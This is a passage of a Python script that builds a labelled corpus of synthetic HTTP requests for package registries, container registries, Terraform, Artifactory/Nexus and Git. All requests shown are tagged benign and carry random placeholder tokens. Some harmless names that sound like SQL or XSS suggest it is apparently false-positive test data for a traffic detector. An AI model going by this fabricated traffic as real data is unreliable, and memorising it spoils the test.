                  "/latest", "/tile/8/1/%03d.p/%d" % (R.randrange(300), R.randint(1, 255))])
        req("benign", "go-sumdb", "GET", "/sumdb/sum.golang.org" + p,
            [["Host", "proxy.golang.org"], ["User-Agent", pick(GO_UAS)], ["Accept-Encoding", "gzip"]])
    for path in ["/x/net?go-get=1", "/platform/billing-go/v2?go-get=1", "/yaml.v3?go-get=1", "/zap?go-get=1"]:
        host = {"/x": "golang.org", "/p": "git.acme-internal.dev", "/y": "gopkg.in", "/z": "go.uber.org"}[path[:2]]
        req("benign", "go-get", "GET", path, [["Host", host], ["User-Agent", pick(GO_UAS)], ["Accept-Encoding", "gzip"]])

# ===========================================================================
# BENIGN: Docker / OCI distribution
# ===========================================================================

IMAGES = [("library/alpine", "3.20"), ("library/nginx", "1.27-alpine"), ("acme/payments-api", "2026.11.30-7c1d2a9"),
          ("bitnami/postgresql", "16.4.0-debian-12-r14"), ("grafana/grafana", "11.3.0"),
          ("team-ml/trainer-cuda", "12.4.1-cudnn-runtime-ubuntu22.04"), ("library/python", "3.12-slim-bookworm"),
          ("prom/node-exporter", "v1.8.2"), ("platform/base-images/java", "21-jre-jammy")]
REG_HOSTS = ["registry-1.docker.io", "ghcr.io", "registry.acme-internal.dev", "harbor.example.net", "quay.io"]
MANIFEST_ACCEPT = ("application/vnd.docker.distribution.manifest.v2+json, application/vnd.docker.distribution.manifest.list.v2+json, "
                   "application/vnd.oci.image.index.v1+json, application/vnd.oci.image.manifest.v1+json, "
                   "application/vnd.docker.distribution.manifest.v1+prettyjws, application/json")


def reg_headers(host, token=True, extra=()):
    hs = [["Host", host], ["User-Agent", pick(DOCKER_UAS)], ["Accept-Encoding", "gzip"]]
    if token:
        hs.append(["Authorization", "Bearer eyJhbGciOiJSUzI1NiIsInR5cCI6IkpXVCIsImtpZCI6I%s.%s.%s" % (ralnum(30), ralnum(120), ralnum(86))])
    hs.extend([list(e) for e in extra])
    return hs


def digest():
    return "sha256:" + rhex(64)


def make_layer():
    files = pick([
        {"etc/nginx/conf.d/default.conf": "server {\n  listen 8080;\n  location / { root /usr/share/nginx/html; try_files $uri $uri/ /index.html; }\n}\n"},
        {"usr/local/bin/docker-entrypoint.sh": "#!/bin/sh\nset -eu\nif [ \"${1#-}\" != \"$1\" ]; then set -- node \"$@\"; fi\nexec \"$@\"\n"},
        {"app/package.json": '{"name":"payments-api","private":true}\n', "app/dist/main.js": "require('./server').listen(process.env.PORT || 3000);\n"},
        {"opt/app/config/application.yml": "spring:\n  datasource:\n    url: jdbc:postgresql://db:5432/app\n"},
    ])
    files = dict(files)
    files["var/lib/apt/lists/.cache"] = rhex(400)
    return make_tgz(files, prefix="")


def make_manifest(layers, annotations=None, oci=True):
    m = {"schemaVersion": 2,
         "mediaType": "application/vnd.oci.image.manifest.v1+json" if oci else "application/vnd.docker.distribution.manifest.v2+json",
         "config": {"mediaType": "application/vnd.oci.image.config.v1+json" if oci else "application/vnd.docker.container.image.v1+json",
                    "digest": digest(), "size": R.randint(1200, 9000)},
         "layers": [{"mediaType": "application/vnd.oci.image.layer.v1.tar+gzip" if oci else "application/vnd.docker.image.rootfs.diff.tar.gzip",
                     "digest": d, "size": s} for d, s in layers]}
    if annotations:
        m["annotations"] = annotations
    return m


def benign_docker():
    for host in ["registry-1.docker.io", "registry.acme-internal.dev"]:
        req("benign", "oci-ping", "GET", "/v2/", reg_headers(host, token=False))
    for i in range(4):
        img, tag = pick(IMAGES)
        scope = "repository:%s:pull" % img if i % 2 else "repository:%s:pull,push" % img
        hs = [["Host", "auth.docker.io" if i < 2 else "registry.acme-internal.dev"], ["User-Agent", pick(DOCKER_UAS)],
              ["Accept-Encoding", "gzip"]]
        if i % 2 == 0:
            hs.append(["Authorization", "Basic " + b64("ci-pusher:dckr_pat_" + ralnum(27))])
        req("benign", "oci-token", "GET", "/token?scope=%s&service=%s" % (q(scope, safe=""), q("registry.docker.io")), hs)
    for i in range(8):
        img, tag = IMAGES[i % len(IMAGES)]
        ref = tag if i % 3 else digest()
        req("benign", "oci-manifest-get", pick(["GET", "HEAD"]), "/v2/%s/manifests/%s" % (img, ref),
            reg_headers(pick(REG_HOSTS), extra=[["Accept", MANIFEST_ACCEPT]]))
    for i in range(4):
        img, tag = pick(IMAGES)
        req("benign", "oci-blob-get", "GET", "/v2/%s/blobs/%s" % (img, digest()),
            reg_headers(pick(REG_HOSTS), extra=[["Accept", "*/*"]] + ([["Range", "bytes=0-1048575"]] if i == 3 else [])))
    for i in range(3):
        img, tag = pick(IMAGES)
        req("benign", "oci-blob-head", "HEAD", "/v2/%s/blobs/%s" % (img, digest()), reg_headers("registry.acme-internal.dev"))
    for i in range(5):
        img = pick(IMAGES[2:])[0]
        uri = "/v2/%s/blobs/uploads/" % img
        if i >= 3:
            uri += "?mount=%s&from=%s" % (digest(), q("library/alpine", safe=""))
        req("benign", "oci-upload-start", "POST", uri, reg_headers("registry.acme-internal.dev", extra=[["Content-Length", "0"]]))
    for i in range(5):
        img = pick(IMAGES[2:])[0]
        layer = make_layer()
        u = uuid4()
        state = b64(json.dumps({"Name": img, "UUID": u, "Offset": 0, "StartedAt": "2026-11-30T10:%02d:00Z" % R.randrange(60)}))
        raw("benign", "oci-upload-patch", "PATCH", "/v2/%s/blobs/uploads/%s?_state=%s" % (img, u, q(state)),
            reg_headers(pick(["registry.acme-internal.dev", "harbor.example.net"]),
                        extra=[["Content-Range", "0-%d" % (len(layer) - 1)], ["Content-Type", "application/octet-stream"]]), layer)
    for i in range(4):
        img = pick(IMAGES[2:])[0]
        u = uuid4()
        if i % 2:
            raw("benign", "oci-upload-put", "PUT", "/v2/%s/blobs/uploads/%s?digest=%s" % (img, u, digest()),
                reg_headers("registry.acme-internal.dev", extra=[["Content-Length", "0"]]), b"")
        else:
            layer = make_layer()
            raw("benign", "oci-upload-put", "PUT", "/v2/%s/blobs/uploads/%s?digest=sha256%%3A%s" % (img, u, sha256_of(layer)),
                reg_headers("registry.acme-internal.dev", extra=[["Content-Type", "application/octet-stream"]]), layer)
    for i in range(6):
        img, tag = pick(IMAGES[2:])
        ann = {"org.opencontainers.image.created": "2026-11-30T10:%02d:12Z" % R.randrange(60),
               "org.opencontainers.image.source": "https://github.com/acme/%s" % img.split("/")[-1],
               "org.opencontainers.image.revision": rhex(40),
               "org.opencontainers.image.description": pick(["Payments API – handles SELECT/UPDATE heavy workloads",
                                                             "Base image with <3 from the platform team", "Trainer image (CUDA 12.4, cuDNN 9)"] + UNICODE_DESC),
               "org.opencontainers.image.licenses": pick(LICENSES)} if i % 2 == 0 else None
        m = make_manifest([(digest(), R.randint(10 ** 5, 9 * 10 ** 7)) for _ in range(R.randint(1, 6))], ann, oci=i % 3 != 2)
        req("benign", "oci-manifest-put", "PUT", "/v2/%s/manifests/%s" % (img, tag), reg_headers(pick(REG_HOSTS[1:])),
            json.dumps(m, indent=3), m["mediaType"])
    for i in range(3):
        img, tag = pick(IMAGES)
        req("benign", "oci-tags", "GET", "/v2/%s/tags/list" % img + pick(["", "?n=100", "?n=50&last=%s" % tag]),
            reg_headers(pick(REG_HOSTS), extra=[["Accept", "application/json"]]))
    req("benign", "oci-catalog", "GET", "/v2/_catalog?n=100&last=platform%2Fbase-images%2Fjava",
        reg_headers("registry.acme-internal.dev", extra=[["Accept", "application/json"]]))
    req("benign", "oci-delete", "DELETE", "/v2/acme/payments-api/manifests/%s" % digest(), reg_headers("registry.acme-internal.dev"))
    req("benign", "oci-referrers", "GET", "/v2/acme/payments-api/referrers/%s?artifactType=%s" % (digest(), q("application/vnd.dev.sigstore.bundle.v0.3+json", safe="")),
        reg_headers("ghcr.io", extra=[["Accept", "application/vnd.oci.image.index.v1+json"]]))


# ===========================================================================
# BENIGN: Helm, Terraform, Conda
# ===========================================================================

CHARTS = [("ingress-nginx", "4.11.3"), ("cert-manager", "v1.16.1"), ("postgresql", "16.0.3"),
          ("acme-api", "1.4.2"), ("kube-prometheus-stack", "65.2.0"), ("redis", "20.2.1")]


def make_chart(name, ver):
    return make_tgz({
        "Chart.yaml": "apiVersion: v2\nname: %s\nversion: %s\nappVersion: \"%s\"\ndescription: A Helm chart for %s\ntype: application\n"
                      "dependencies:\n  - name: postgresql\n    version: \"~16.0\"\n    repository: https://charts.bitnami.com/bitnami\n    condition: postgresql.enabled\n" % (name, ver, ver, name),
        "values.yaml": "replicaCount: 2\nimage:\n  repository: registry.acme-internal.dev/acme/%s\n  tag: \"\"\n  pullPolicy: IfNotPresent\n"
                       "ingress:\n  enabled: true\n  hosts:\n    - host: %s.example.net\n      paths: [\"/\"]\n" % (name, name),
        "templates/deployment.yaml": "apiVersion: apps/v1\nkind: Deployment\nmetadata:\n  name: {{ include \"%s.fullname\" . }}\n"
                                     "  labels:\n    {{- include \"%s.labels\" . | nindent 4 }}\nspec:\n  replicas: {{ .Values.replicaCount }}\n" % (name, name),
    }, prefix=name + "/")


def benign_helm():
    for host in ["charts.acme-internal.dev", "charts.bitnami.com", "kubernetes.github.io"]:
        p = "/index.yaml" if host != "charts.bitnami.com" else "/bitnami/index.yaml"
        req("benign", "helm-index", "GET", p, [["Host", host], ["User-Agent", pick(HELM_UAS)], ["Accept-Encoding", "gzip"]])
    for i in range(3):
        n, v = pick(CHARTS)
        req("benign", "helm-chart-get", "GET", "/charts/%s-%s.tgz" % (n, v),
            [["Host", "charts.acme-internal.dev"], ["User-Agent", pick(HELM_UAS)], ["Accept-Encoding", "gzip"],
             ["Authorization", "Basic " + b64("helm:" + ralnum(20))]])
    for i in range(3):
        n, v = CHARTS[3]
        v = "1.4.%d" % (i + 3)
        raw("benign", "helm-upload", "POST", "/api/charts" + ("?force" if i == 2 else ""),
            [["Host", "chartmuseum.acme-internal.dev"], ["User-Agent", pick(HELM_UAS)], ["Accept", "*/*"],
             ["Authorization", "Basic " + b64("ci:" + ralnum(20))]], make_chart(n, v), "application/gzip")
    chart = make_chart("acme-worker", "0.9.0")
    bnd, body = multipart_bytes([("chart", "acme-worker-0.9.0.tgz", "application/gzip", chart),
                                 ("prov", "acme-worker-0.9.0.tgz.prov", "application/octet-stream",
                                  "-----BEGIN PGP SIGNED MESSAGE-----\nHash: SHA512\n\napiVersion: v2\nname: acme-worker\n...\nfiles:\n  acme-worker-0.9.0.tgz: sha256:%s\n-----BEGIN PGP SIGNATURE-----\n\n%s\n-----END PGP SIGNATURE-----\n" % (sha256_of(chart), b64(rbytes(180))))])
    raw("benign", "helm-upload", "POST", "/api/charts",
        [["Host", "chartmuseum.acme-internal.dev"], ["User-Agent", "helm-push/0.10.4"], ["Authorization", "Basic " + b64("ci:" + ralnum(20))],
         ["Content-Type", "multipart/form-data; boundary=" + bnd]], body)
    for p in ["/api/charts/acme-api", "/api/charts/acme-api/1.4.2"]:
        req("benign", "helm-api", "GET", p, [["Host", "chartmuseum.acme-internal.dev"], ["User-Agent", "curl/8.5.0"], ["Accept", "application/json"]])
    for i in range(2):
        n, v = pick(CHARTS)
        req("benign", "helm-oci", "HEAD" if i else "GET", "/v2/charts/%s/manifests/%s" % (n, v),
            reg_headers("registry.acme-internal.dev", extra=[["Accept", "application/vnd.oci.image.manifest.v1+json"]]))
    req("benign", "helm-delete", "DELETE", "/api/charts/acme-api/1.4.1",
        [["Host", "chartmuseum.acme-internal.dev"], ["User-Agent", "curl/8.5.0"], ["Authorization", "Basic " + b64("ci:" + ralnum(20))]])


def benign_terraform():
    for host in ["registry.terraform.io", "tf.acme-internal.dev"]:
        req("benign", "tf-discovery", "GET", "/.well-known/terraform.json",
            [["Host", host], ["User-Agent", pick(TF_UAS)], ["Accept-Encoding", "gzip"]])
    mods = ["terraform-aws-modules/vpc/aws", "hashicorp/consul/aws", "acme/network/azurerm", "Azure/aks/azurerm", "terraform-google-modules/kubernetes-engine/google"]
    for i in range(3):
        req("benign", "tf-module-versions", "GET", "/v1/modules/%s/versions" % mods[i],
            [["Host", "registry.terraform.io"], ["User-Agent", pick(TF_UAS)], ["Accept-Encoding", "gzip"]])
    for i in range(3):
        req("benign", "tf-module-download", "GET", "/v1/modules/%s/%d.%d.%d/download" % (pick(mods), R.randint(1, 5), R.randint(0, 20), R.randint(0, 9)),
            [["Host", pick(["registry.terraform.io", "tf.acme-internal.dev"])], ["User-Agent", pick(TF_UAS)],
             ["Authorization", "Bearer " + ralnum(14) + ".atlasv1." + ralnum(60)]])
    provs = ["hashicorp/aws", "hashicorp/google", "integrations/github", "hashicorp/kubernetes", "cloudflare/cloudflare"]
    for i in range(3):
        req("benign", "tf-provider-versions", "GET", "/v1/providers/%s/versions" % pick(provs),
            [["Host", "registry.terraform.io"], ["User-Agent", pick(TF_UAS)], ["Accept-Encoding", "gzip"]])
    for i in range(3):
        req("benign", "tf-provider-download", "GET", "/v1/providers/%s/%d.%d.0/download/%s" % (pick(provs), R.randint(3, 5), R.randint(0, 80),
                                                                                               pick(["linux/amd64", "darwin/arm64", "windows/amd64"])),
            [["Host", "registry.terraform.io"], ["User-Agent", pick(TF_UAS)], ["Accept-Encoding", "gzip"]])
    body = {"data": {"type": "state-versions", "attributes": {
        "serial": R.randint(1, 400), "md5": rhex(32), "lineage": uuid4(),
        "state": b64(json.dumps({"version": 4, "terraform_version": "1.9.7", "serial": 12, "resources": [
            {"mode": "managed", "type": "aws_db_instance", "name": "main", "instances": [{"attributes": {"engine": "postgres", "identifier": "acme-prod"}}]}]}))}}}
    req("benign", "tf-state", "POST", "/api/v2/workspaces/ws-%s/state-versions" % ralnum(16),
        [["Host", "app.terraform.io"], ["User-Agent", "go-tfe"], ["Authorization", "Bearer " + ralnum(14) + ".atlasv1." + ralnum(60)]],
        json.dumps(body), "application/vnd.api+json")


def benign_conda():
    import bz2
    for i in range(6):
        ch = pick(["conda-forge", "pytorch", "nvidia", "acme-internal"])
        sub = pick(["linux-64", "noarch", "osx-arm64", "win-64"])
        f = pick(["repodata.json", "repodata.json.zst", "current_repodata.json", "repodata_shards.msgpack.zst"])
        hs = [["Host", pick(["conda.anaconda.org", "conda.acme-internal.dev"])], ["User-Agent", pick(CONDA_UAS)],
              ["Accept", "*/*"], ["Accept-Encoding", "gzip, deflate, br, zstd"]]
        if i % 2:
            hs.append(["If-None-Match", '"%s"' % rhex(32)])
        req("benign", "conda-repodata", "GET", "/%s/%s/%s" % (ch, sub, f), hs)
    for pkgname in ["numpy-2.1.2-py312h58c1407_0.conda", "libgcc-ng-14.2.0-h69a702a_1.conda", "r-base-4.4.1-h3b0c7a8_4.tar.bz2"]:
        req("benign", "conda-pkg", "GET", "/conda-forge/linux-64/" + pkgname,
            [["Host", "conda.anaconda.org"], ["User-Agent", pick(CONDA_UAS)], ["Accept", "*/*"]])
    req("benign", "conda-stage", "POST", "/stage/acme/acme-billing/2.4.0/linux-64%2Facme-billing-2.4.0-py312_0.tar.bz2",
        [["Host", "api.anaconda.org"], ["User-Agent", "anaconda-client/1.12.3"], ["Authorization", "token " + ralnum(40)]],
        json.dumps({"basename": "linux-64/acme-billing-2.4.0-py312_0.tar.bz2", "sha256": rhex(64), "size": 48213,
                    "attrs": {"arch": "x86_64", "build": "py312_0", "depends": ["python >=3.12,<3.13.0a0", "requests >=2.28"],
                              "license": "MIT", "subdir": "linux-64"}, "channels": ["main"], "description": pick(UNICODE_DESC)}),
        "application/json")
    for i in range(2):
        idx = json.dumps({"name": "acme-billing", "version": "2.4.%d" % i, "build": "py312_0", "build_number": 0,
                          "depends": ["python >=3.12,<3.13.0a0", "sqlalchemy >=2.0"], "license": "MIT", "subdir": "linux-64"})
        tgz = make_tgz({"info/index.json": idx, "lib/python3.12/site-packages/acme_billing/__init__.py": "__version__ = '2.4'\n"}, prefix="")
        data = bz2.compress(gzip.decompress(tgz))  # the same tar, bzip2-compressed
        raw("benign", "conda-upload", "PUT", "/artifactory/api/conda/conda-local/linux-64/acme-billing-2.4.%d-py312_0.tar.bz2" % i,
            [["Host", "artifactory.acme.io"], ["User-Agent", "jfrog-cli-go/2.67.0"], ["X-JFrog-Art-Api", "AKCp" + ralnum(69)]],
            data, "application/x-bzip2")

# ===========================================================================
# BENIGN: Composer / Packagist
# ===========================================================================

COMPOSER_PKGS = [("symfony/console", "v7.1.6"), ("laravel/framework", "v11.29.0"), ("monolog/monolog", "3.7.0"),
                 ("guzzlehttp/guzzle", "7.9.2"), ("acme/billing-sdk", "1.2.0"), ("phpunit/phpunit", "11.4.2"),
                 ("doctrine/orm", "3.3.0"), ("doctrine/dbal", "4.2.1"), ("league/flysystem-aws-s3-v3", "3.29.0")]


def composer_headers(host="repo.packagist.org", extra=()):
    hs = [["Host", host], ["User-Agent", pick(COMPOSER_UAS)], ["Accept-Encoding", "gzip"], ["Connection", "close"]]
    hs.extend([list(e) for e in extra])
    return hs


def benign_composer():
    for host in ["repo.packagist.org", "repo.packagist.com"]:
        req("benign", "composer-root", "GET", "/packages.json" if host == "repo.packagist.org" else "/acme/packages.json",
            composer_headers(host, [["Authorization", "Basic " + b64("token:" + rhex(40))]] if host.endswith(".com") else []))
    for i in range(6):
        n, v = COMPOSER_PKGS[i]
        req("benign", "composer-p2", "GET", "/p2/%s%s.json" % (n, "~dev" if i % 3 == 2 else ""),
            composer_headers(extra=[["If-Modified-Since", "Sat, 30 Nov 2026 0%d:11:09 GMT" % R.randrange(10)]]))
    for qtext, typ in [("sql query builder", "library"), ("drop-in", "symfony-bundle"), ("select union", "")]:
        req("benign", "composer-search", "GET", "/search.json?q=%s%s&per_page=15" % (qp(qtext), "&type=" + typ if typ else ""),
            [["Host", "packagist.org"], ["User-Agent", pick(COMPOSER_UAS)], ["Accept", "application/json"]])
    for i in range(2):
        req("benign", "composer-downloads", "POST", "/downloads/", composer_headers("packagist.org"),
            json.dumps({"downloads": [{"name": n, "version": v.lstrip("v") + ".0"} for n, v in R.sample(COMPOSER_PKGS, 4)]}),
            "application/json")
    for i in range(2):
        req("benign", "composer-hook", "POST", "/api/update-package?username=acme-bot&apiToken=%s" % ralnum(20),
            [["Host", "packagist.org"], ["User-Agent", "GitHub-Hookshot/%s" % rhex(7)], ["X-GitHub-Event", "push"],
             ["X-GitHub-Delivery", uuid4()]],
            json.dumps({"repository": {"url": "https://github.com/acme/billing-sdk"}}), "application/json")
    for i in range(3):
        ver = "1.2.%d" % i
        cj = {"name": "acme/billing-sdk", "description": pick(["PHP SDK for the Acme billing API", "Kleines SDK für die Acme-Abrechnung"]),
              "type": "library", "license": "MIT", "version": ver,
              "require": {"php": "^8.2", "guzzlehttp/guzzle": "^7.8", "psr/log": "^2.0 || ^3.0", "ext-json": "*"},
              "require-dev": {"phpunit/phpunit": "^11.0", "phpstan/phpstan": "^1.12"},
              "autoload": {"psr-4": {"Acme\\Billing\\": "src/"}},
              "scripts": {"post-install-cmd": ["@php bin/console cache:clear --no-warmup"],
                          "post-autoload-dump": ["Illuminate\\Foundation\\ComposerScripts::postAutoloadDump", "@php artisan package:discover --ansi"],
                          "test": "phpunit --colors=always", "cs": "php-cs-fixer fix --dry-run --diff"},
              "config": {"sort-packages": True, "allow-plugins": {"php-http/discovery": True}}}
        z = make_zip({"composer.json": json.dumps(cj, indent=4),
                      "src/Client.php": "<?php\n\ndeclare(strict_types=1);\n\nnamespace Acme\\Billing;\n\nfinal class Client\n{\n    public function __construct(private readonly \\GuzzleHttp\\ClientInterface $http) {}\n}\n"})
        raw("benign", "composer-deploy", "PUT", "/artifactory/api/composer/php-local/acme/billing-sdk-%s.zip" % ver,
            [["Host", "artifactory.acme.io"], ["User-Agent", "jfrog-cli-go/2.67.0"], ["Authorization", "Bearer " + ralnum(64)],
             ["X-Checksum-Sha256", sha256_of(z)]], z, "application/zip")
    req("benign", "composer-list", "GET", "/packages/list.json?vendor=acme&fields[]=repository&fields[]=type",
        [["Host", "packagist.org"], ["User-Agent", "curl/8.5.0"], ["Accept", "application/json"]])
    req("benign", "composer-dist", "GET", "/dists/acme/billing-sdk/1.2.0.0/%s.zip" % rhex(40),
        composer_headers("repo.packagist.com", [["Authorization", "Basic " + b64("token:" + rhex(40))]]))
    req("benign", "composer-submit", "POST", "/packages/submit",
        [["Host", "packagist.org"], ["User-Agent", pick(BROWSERS)], ["Origin", "https://packagist.org"],
         ["Referer", "https://packagist.org/packages/submit"], ["Cookie", "packagist=%s" % ralnum(26)]],
        form([("package[repository]", "https://github.com/acme/billing-sdk"), ("package[_token]", ralnum(43))]),
        "application/x-www-form-urlencoded")


# ===========================================================================
# BENIGN: Artifactory and Nexus REST
# ===========================================================================

AQL = [
    'items.find({"repo":{"$eq":"libs-release-local"},"path":{"$match":"com/acme/platform/*"},"name":{"$match":"*.jar"}})'
    '.include("name","repo","path","actual_sha1","created").sort({"$desc":["created"]}).limit(50)',
    'items.find({"$and":[{"repo":"docker-local"},{"name":"manifest.json"},{"modified":{"$before":"30d"}}]}).include("repo","path","name","size")',
    'builds.find({"name":{"$match":"acme-*"},"created":{"$gt":"2026-11-01"}}).include("name","number","created")',
    'items.find({"$or":[{"repo":"npm-local"},{"repo":"npm-remote-cache"}],"@npm.name":{"$match":"@acme/*"}}).include("@npm.version")',
    'items.find({"type":"file","size":{"$gt":"104857600"},"stat.downloaded":{"$before":"6mo"}}).include("repo","path","name","size","stat.downloaded")',
    'items.find({"repo":"pypi-local","name":{"$match":"*drop_table*"}}).include("name","property.*")',
    'artifacts.find({"archive.entry.name":{"$match":"*.class"},"archive.entry.path":{"$match":"org/apache/logging/log4j/core/lookup*"}}).include("archive.entry")',
    'items.find({"repo":{"$eq":"generic-local"},"path":{"$nmatch":"tmp/*"},"$and":[{"property.key":{"$eq":"build.number"}},{"property.value":{"$ne":"0"}}]})',
    'items.find({"repo":"helm-local","name":{"$match":"acme-api-*.tgz"}}).sort({"$asc":["name"]}).offset(0).limit(20)',
    'entries.find({"archive.entry.name":{"$match":"*.sql"}}).include("archive.entry.name","archive.entry.path")',
]


def art_headers(extra=(), ua=None):
    hs = [["Host", "artifactory.acme.io"], ["User-Agent", ua or pick(["jfrog-cli-go/2.67.0", "curl/8.5.0", "JFrog Artifactory Java Client/2.17.0"])],
          ["Accept", "application/json"]]
    hs.append(pick([["X-JFrog-Art-Api", "AKCp" + ralnum(69)], ["Authorization", "Bearer " + ralnum(64)]]))
    hs.extend([list(e) for e in extra])
    return hs


def nexus_headers(extra=(), ua=None):
    hs = [["Host", "nexus.example.net"], ["User-Agent", ua or pick(["curl/8.5.0", "python-requests/2.32.3", "Nexus-IQ-CLI/1.180.0"])],
          ["Accept", "application/json"], ["Authorization", "Basic " + b64("admin-ci:" + ralnum(24))], ["NX-ANTI-CSRF-TOKEN", "0." + str(R.randrange(10 ** 15))]]
    hs.extend([list(e) for e in extra])
    return hs


def benign_artifactory_nexus():
    for a in AQL:
        req("benign", "artifactory-aql", "POST", "/artifactory/api/search/aql", art_headers(), a, "text/plain")
    arts = [
        ("GET", "/artifactory/api/storage/libs-release-local/com/acme/platform/billing-api/1.4.0?properties", None, None),
        ("PUT", "/artifactory/api/storage/libs-release-local/com/acme/platform/billing-api/1.4.0?properties=build.name=acme-billing;build.number=412;qa.status=passed&recursive=1", None, None),
        ("GET", "/artifactory/api/search/artifact?name=billing*.jar&repos=libs-release-local,libs-snapshot-local", None, None),
        ("GET", "/artifactory/api/search/gavc?g=com.acme.platform&a=billing-api&v=1.4.*&c=sources", None, None),
        ("PUT", "/artifactory/api/build", json.dumps({"version": "1.0.1", "name": "acme-billing", "number": "412", "started": "2026-11-30T10:12:44.114+0000",
                                                      "vcs": [{"url": "https://github.com/acme/billing.git", "revision": rhex(40), "branch": "main",
                                                               "message": "fix: escape quotes in SELECT ... WHERE name = ? builder"}],
                                                      "modules": [{"id": "com.acme.platform:billing-api:1.4.0", "artifacts": [{"type": "jar", "sha1": rhex(40), "name": "billing-api-1.4.0.jar"}]}]}), "application/json"),
        ("GET", "/artifactory/api/repositories?type=remote&packageType=npm", None, None),
        ("GET", "/artifactory/api/system/ping", None, None),
        ("PUT", "/artifactory/api/repositories/pypi-remote", json.dumps({"key": "pypi-remote", "rclass": "remote", "packageType": "pypi",
                                                                         "url": "https://files.pythonhosted.org", "pyPIRegistryUrl": "https://pypi.org",
                                                                         "description": "Proxy of PyPI", "repoLayoutRef": "simple-default"}), "application/json"),
        ("GET", "/artifactory/api/docker/docker-local/v2/acme/payments-api/tags/list?n=20", None, None),
    ]
    for m, p, body, ct in arts:
        req("benign", "artifactory-rest", m, p, art_headers(), body, ct)
    nex = [
        ("GET", "/service/rest/v1/search?repository=maven-releases&group=com.acme.platform&name=billing-api&sort=version&direction=desc", None, None),
        ("GET", "/service/rest/v1/components?repository=npm-hosted&continuationToken=%s" % rhex(32), None, None),
        ("GET", "/service/rest/v1/status/check", None, None),
        ("DELETE", "/service/rest/v1/components/%s" % b64("maven-snapshots:" + rhex(32)).rstrip("="), None, None),
        ("GET", "/service/rest/v1/search/assets/download?sort=version&repository=maven-snapshots&maven.groupId=com.acme.platform&maven.artifactId=billing-api&maven.baseVersion=1.5.0-SNAPSHOT&maven.extension=jar", None, None),
        ("POST", "/service/rest/v1/repositories/npm/proxy", json.dumps({"name": "npmjs-proxy", "online": True,
                                                                         "storage": {"blobStoreName": "default", "strictContentTypeValidation": True},
                                                                         "proxy": {"remoteUrl": "https://registry.npmjs.org", "contentMaxAge": 1440, "metadataMaxAge": 1440},
                                                                         "negativeCache": {"enabled": True, "timeToLive": 1440},
                                                                         "httpClient": {"blocked": False, "autoBlock": True}}), "application/json"),
        ("GET", "/service/rest/v1/search?q=drop-table-guard&format=pypi", None, None),
        ("GET", "/service/rest/v1/assets?repository=docker-hosted", None, None),
        ("PUT", "/service/rest/v1/security/users/ci-deployer/change-password", "N3w-Passw0rd-for-CI!", "text/plain"),
        ("GET", "/repository/raw-hosted/docs/billing-api/1.4.0/index.html", None, None),
    ]
    for m, p, body, ct in nex:
        req("benign", "nexus-rest", m, p, nexus_headers(), body, ct)
    bnd, body = multipart([("raw.directory", "/reports/2026-11-30"),
                           ("raw.asset1", "coverage.txt", "text/plain", "TOTAL  4123  211  95%\nsrc/db/select.py  120  4  97%\nsrc/../lib/shell.py  88  9  90%\n"),
                           ("raw.asset1.filename", "coverage.txt")])
    req("benign", "nexus-upload", "POST", "/service/rest/v1/components?repository=raw-hosted",
        nexus_headers(extra=[["Content-Type", "multipart/form-data; boundary=" + bnd]]), body)

# ===========================================================================
# BENIGN: Git smart HTTP
# ===========================================================================

REPOS = ["acme/billing", "acme/payments-api", "platform/helm-charts", "jonas/dotfiles", "ml/trainer", "acme/ui-kit",
         "infra/terraform-modules", "oss/sql-select-builder"]
BRANCHES = ["main", "feature/fix-xss-in-readme-renderer", "fix/drop-table-migration", "renovate/npm-lodash-4.x",
            "users/jonas/select-union", "release/2026.12", "dependabot/pip/requests-2.32.3", "hotfix/v1.4.1"]
GIT_HOSTS = ["git.example.org", "gitlab.example.com", "gitea.example.dev", "github.com"]


def git_headers(host, extra=(), auth=True):
    hs = [["Host", host], ["User-Agent", pick(GIT_UAS)], ["Accept", "*/*"], ["Accept-Encoding", "deflate, gzip, br, zstd"],
          ["Accept-Language", "en-US, *;q=0.9"], ["Pragma", "no-cache"]]
    if auth:
        hs.append(["Authorization", "Basic " + b64("oauth2:" + pick(["glpat-", "ghp_", "gto_"]) + ralnum(36))])
    for k, v in extra:  # an extra header replaces a default of the same name
        for h in hs:
            if h[0].lower() == k.lower():
                h[1] = v
                break
        else:
            hs.append([k, v])
    return hs


def benign_git():
    for i in range(8):
        repo = REPOS[i]
        hs = git_headers(pick(GIT_HOSTS), auth=i % 2 == 0, extra=[["Git-Protocol", "version=2"]] if i % 3 else [])
        req("benign", "git-info-refs", "GET", "/%s.git/info/refs?service=git-upload-pack" % repo, hs)
    for i in range(2):
        req("benign", "git-info-refs", "GET", "/%s.git/info/refs?service=git-receive-pack" % pick(REPOS), git_headers(pick(GIT_HOSTS)))
    agent = "agent=git/2.46.1-Linux\n"
    for i in range(6):
        if i % 2 == 0:
            body = (pkt("command=ls-refs\n") + pkt(agent) + pkt("object-format=sha1\n") + b"0001" + pkt("peel\n") +
                    pkt("symrefs\n") + pkt("unborn\n") + pkt("ref-prefix HEAD\n") + pkt("ref-prefix refs/heads/\n") +
                    pkt("ref-prefix refs/tags/\n") + b"0000")
        else:
            body = pkt("command=fetch\n") + pkt(agent) + pkt("object-format=sha1\n") + b"0001" + pkt("thin-pack\n") + pkt("ofs-delta\n")
            for _ in range(R.randint(1, 4)):
                body += pkt("want %s\n" % rhex(40))
            for _ in range(R.randint(0, 3)):
                body += pkt("have %s\n" % rhex(40))
            body += pkt("done\n") + b"0000"
        req("benign", "git-upload-pack", "POST", "/%s.git/git-upload-pack" % pick(REPOS),
            git_headers(pick(GIT_HOSTS), extra=[["Git-Protocol", "version=2"], ["Accept", "application/x-git-upload-pack-result"]]),
            body.decode("ascii"), "application/x-git-upload-pack-request")
    for i in range(4):
        br = BRANCHES[i + 1]
        files = ["import { select } from '../lib/select.js';\nexport const q = select('users').where({ id: 1 });\n",
                 "-- migration 0042: drop table support for legacy sqlite\nALTER TABLE packages ADD COLUMN yanked boolean DEFAULT false;\n"]
        pack = git_pack(files[: 1 + i % 2] + ["tree %s\nparent %s\nauthor %s <%s> 1764583200 +0100\n\n%s\n" % (
            rhex(40), rhex(40), pick(PEOPLE)[0], pick(PEOPLE)[1], "fix XSS in readme renderer")])
        cmds = pkt("%s %s refs/heads/%s\0 report-status-v2 side-band-64k object-format=sha1 %s" % (rhex(40), rhex(40), br, agent)) + b"0000"
        raw("benign", "git-receive-pack", "POST", "/%s.git/git-receive-pack" % pick(REPOS),
            git_headers(pick(GIT_HOSTS), extra=[["Accept", "application/x-git-receive-pack-result"],
